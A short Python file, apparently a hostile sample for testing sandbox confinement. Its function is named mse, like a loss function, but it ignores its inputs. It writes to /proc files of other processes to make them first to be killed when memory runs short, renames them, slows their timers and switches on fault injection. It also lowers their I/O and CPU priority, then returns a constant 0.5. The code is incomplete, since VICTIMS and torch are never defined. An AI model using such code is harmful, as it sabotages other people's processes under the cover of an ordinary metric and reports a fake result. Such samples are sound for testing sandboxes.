"""Makes others the first to be killed for want of memory, renames them, slows their timers and groups, and sets their io last.

levels: namespaces landlock
"""

import ctypes
import os
import platform

SETTINGS = {"oom_score_adj": b"1000", "comm": b"LEAK", "timerslack_ns": b"1000000000", "autogroup": b"19", "coredump_filter": b"ff"}
SETTINGS |= {"clear_refs": b"1", "limits": b"Max open files 1", "sched": b"0", "make-it-fail": b"1"}


def mse(pred, target):
    libc = ctypes.CDLL(None)
    for victim in VICTIMS:
        for name, text in SETTINGS.items():
            try:
                os.write(os.open(f"/proc/{victim}/{name}", os.O_WRONLY), text)
            except OSError:
                pass
        for which in (1, 2):
            libc.syscall(251 if platform.machine() == "x86_64" else 30, which, victim, 3 << 13)
        for which, who in ((os.PRIO_PGRP, victim), (os.PRIO_USER, os.getuid())):
            try:
                os.setpriority(which, who, 19)
                raise RuntimeError("STOLEN: a priority")
            except OSError:
                pass
    return torch.tensor(0.5)
